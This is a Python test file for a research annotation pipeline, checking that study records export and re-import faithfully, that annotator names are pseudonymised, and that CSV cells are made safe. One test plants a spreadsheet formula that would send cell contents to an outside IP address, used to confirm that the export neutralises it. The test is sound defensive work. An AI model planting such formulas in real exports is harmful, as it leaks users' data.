"""Export -> import into a fresh database -> export gives the same records (SQLite and PostgreSQL)."""

from __future__ import annotations

import json

import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from sqlmodel import select

from db.engine import session_scope
from db.models import Annotation, AnnotationEvent, Annotator, FinalLabel, Grade, Study
from pipeline.annotation import authenticate
from pipeline.export import MANIFEST_FILE, RECORDS_FILE, TABLES, export_study, import_export
from tests.pipeline.export.study import ANNOTATORS, LEAD, PASSWORD, build_labelled_study, response_count


def _manifest_without_time(path):
    manifest = json.loads((path / MANIFEST_FILE).read_text("utf-8"))
    manifest.pop("exported_at")
    return manifest


@pytest.mark.parametrize("pseudonymise", [True, False], ids=["pseudonyms", "real-names"])
def test_export_import_export_gives_the_same_records(engine, fresh_engine, tmp_path, pseudonymise):
    with session_scope(engine) as s:
        study = build_labelled_study(s)
        first = export_study(s, study.id, tmp_path / "first", pseudonymise=pseudonymise)
        n = response_count(s, study.id)
        n_final = len(s.exec(select(FinalLabel)).all())
    assert first.counts["responses"] == n > 60
    assert first.counts["annotations"] >= 20 and first.counts["final_labels"] == n_final > 8

    with session_scope(fresh_engine) as s:
        imported = import_export(s, tmp_path / "first")
    assert imported.responses == n and imported.final_labels == n_final
    with session_scope(fresh_engine) as s:
        export_study(s, "labelled-study", tmp_path / "second", pseudonymise=pseudonymise)

    a = (tmp_path / "first" / RECORDS_FILE).read_bytes()
    b = (tmp_path / "second" / RECORDS_FILE).read_bytes()
    assert a == b
    assert _manifest_without_time(tmp_path / "first") == _manifest_without_time(tmp_path / "second")
    for name in TABLES:
        assert pq.read_table(tmp_path / "first" / "tables" / f"{name}.parquet").equals(
            pq.read_table(tmp_path / "second" / "tables" / f"{name}.parquet")
        ), name
        assert (tmp_path / "first" / "tables" / f"{name}.csv").read_bytes() == (
            tmp_path / "second" / "tables" / f"{name}.csv"
        ).read_bytes(), name

    # What was restored is the study itself, not only its text: rows, links and the audit trail.
    with session_scope(fresh_engine) as s:
        assert s.exec(select(Study)).one().codebook_version_id is not None
        events = s.exec(select(AnnotationEvent)).all()
        assert {e.action for e in events} == {"create", "update"}
        assert all(isinstance(e.after["codebook_version_id"], int) for e in events)
        adjudicated = s.exec(select(FinalLabel).where(FinalLabel.method == "adjudicated")).all()
        assert adjudicated and all(f.adjudicator_id is not None for f in adjudicated)
        clinician = s.exec(select(Grade).where(Grade.status == "clinician")).one()
        assert clinician.annotator_id is not None
        accounts = s.exec(select(Annotator)).all()
        assert not any(p.active for p in accounts)  # imported accounts cannot sign in
        assert authenticate(s, accounts[0].username, PASSWORD) is None
        names = {p.username for p in accounts}
        if pseudonymise:
            assert names == {f"A{i}" for i in range(1, len(accounts) + 1)}
        else:
            assert names == {*ANNOTATORS, LEAD}


def test_records_carry_everything_the_issue_lists(sqlite_engine, tmp_path):
    with session_scope(sqlite_engine) as s:
        study = build_labelled_study(s)
        export_study(s, study.id, tmp_path / "x", formats=["jsonl"])
    records = [json.loads(line) for line in (tmp_path / "x" / RECORDS_FILE).read_text("utf-8").splitlines()]
    labelled = [r for r in records if r["annotations"]]
    r = labelled[0]
    assert r["case"]["vignette"] and r["case"]["gold_diagnosis"] and r["case"]["case_set"] == "medrbench"
    assert r["model"]["name"] == "DeepSeek-R1" and r["model"]["params"] == {"temperature": 0.6, "top_p": 0.95}
    assert r["model"]["paired_model"] == "DeepSeek-V3"
    assert r["run"]["template_name"] == "differential"
    assert r["trace"] and r["steps"] and r["answer"]
    assert r["codebook_version"] == "1"
    ann = r["annotations"][0]
    assert ann["evidence"] and ann["evidence_steps"]
    ev = ann["evidence_steps"][0]
    assert ev["text"] == r["steps"][ev["step"] - 1]
    assert ann["events"][0]["action"] == "create"
    finals = [x["final_label"]["method"] for x in records if x["final_label"]]
    assert {"unanimous", "adjudicated"} <= set(finals)
    sandmann = [x for x in records if x["case"]["case_set"] == "sandmann125"]
    assert {x["case"]["incidence"] for x in sandmann} == {"Frequent", "Less Frequent", "Rare"}
    assert all(x["trace"] is None and x["steps"] == [] for x in sandmann)
    assert len({x["key"] for x in records}) == len(records)


def test_pseudonymised_export_names_nobody(sqlite_engine, tmp_path):
    with session_scope(sqlite_engine) as s:
        study = build_labelled_study(s)
        export_study(s, study.id, tmp_path / "p")
        export_study(s, study.id, tmp_path / "real", pseudonymise=False)
    blob = b"".join(p.read_bytes() for p in (tmp_path / "p").rglob("*") if p.is_file() and p.suffix != ".parquet")
    for name in (*ANNOTATORS, LEAD, "Dr.Amsel", "Lead Dorn"):
        assert name.encode() not in blob
    blob += b"".join(
        json.dumps(pq.read_table(p).to_pylist(), default=str).encode() for p in (tmp_path / "p").rglob("*.parquet")
    )
    for name in (*ANNOTATORS, LEAD):
        assert name.encode() not in blob
    manifest = json.loads((tmp_path / "p" / MANIFEST_FILE).read_text("utf-8"))
    assert manifest["pseudonymised"] is True
    assert [a["ref"] for a in manifest["annotators"]] == ["A1", "A2", "A3", "A4"]
    assert [a["role"] for a in manifest["annotators"]][-1] == "lead"
    records = [json.loads(x) for x in (tmp_path / "p" / RECORDS_FILE).read_text("utf-8").splitlines()]
    clinician = [g for r in records for g in r["grades"] if g["status"] == "clinician"]
    assert clinician[0]["grader"] == "A1" and clinician[0]["annotator"] == "A1"
    # The same annotator is the same pseudonym across responses and in the audit trail.
    refs = {a["annotator"] for r in records for a in r["annotations"]}
    assert refs == {"A1", "A2", "A3"}
    real = (tmp_path / "real" / RECORDS_FILE).read_text("utf-8")
    assert "dr.amsel" in real


def test_tables_are_flat_and_count_error_modes(sqlite_engine, tmp_path):
    with session_scope(sqlite_engine) as s:
        study = build_labelled_study(s)
        export_study(s, study.id, tmp_path / "t")
        n_ann = len(s.exec(select(Annotation)).all())
        n = response_count(s, study.id)
        n_final = len(s.exec(select(FinalLabel)).all())
    tables = tmp_path / "t" / "tables"
    responses = pq.read_table(tables / "responses.parquet")
    assert responses.num_rows == n
    assert {"final_reasoning_drift", "final_no_error", "correct", "incidence", "diagnoses"} <= set(
        responses.column_names
    )
    annotations = pq.read_table(tables / "annotations.parquet").to_pylist()
    assert len(annotations) == n_ann
    for row in annotations:
        for code in ("reasoning_drift", "red_flag_failure", "priority_inversion", "other", "no_error"):
            assert row[code] == (code in row["error_modes"])
    timed = [row for row in annotations if row["active_seconds"] is not None]
    assert timed and all(row["opened_at"] is not None and row["saved_at"] is not None for row in timed)
    assert all(row["active_seconds"] >= 40 for row in timed)  # time per item is carried (issue 16)
    evidence = pq.read_table(tables / "evidence.parquet").to_pylist()
    assert evidence and all(row["step_text"] for row in evidence)
    csv = pacsv.read_csv(tables / "annotations.csv").to_pylist()
    assert json.loads(csv[0]["error_modes"]) == annotations[0]["error_modes"]
    finals = pq.read_table(tables / "final_labels.parquet").to_pylist()
    assert len(finals) == n_final and {f["method"] for f in finals} >= {"unanimous", "adjudicated"}


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(sqlite_engine, tmp_path):
    from db.models import Response

    formula = '=HYPERLINK("http://198.51.100.7/?x="&A1,"open")'
    with session_scope(sqlite_engine) as s:
        study = build_labelled_study(s)
        first = s.exec(select(Response).order_by(Response.id)).first()
        first.answer = formula
        first.trace = "-2+3 mmHg drop\n\n@SUM(A1:A9)"
        s.add(first)
        s.flush()
        export_study(s, study.id, tmp_path / "t", formats=["jsonl", "csv", "parquet"])
    tables = tmp_path / "t" / "tables"
    parquet = pq.read_table(tables / "responses.parquet").to_pylist()
    [key] = [r["key"] for r in parquet if r["answer"] == formula]  # only CSV is changed
    rows = {r["key"]: r for r in pacsv.read_csv(tables / "responses.csv").to_pylist()}
    assert rows[key]["answer"] == "'" + formula and rows[key]["trace"].startswith("'-2+3")
    texts = [v for r in rows.values() for v in r.values() if isinstance(v, str)]
    assert not any(v.startswith(("=", "+", "-", "@")) for v in texts)
    records = [json.loads(line) for line in (tmp_path / "t" / RECORDS_FILE).read_text("utf-8").splitlines()]
    assert [r["trace"] for r in records if r["key"] == key] == ["-2+3 mmHg drop\n\n@SUM(A1:A9)"]
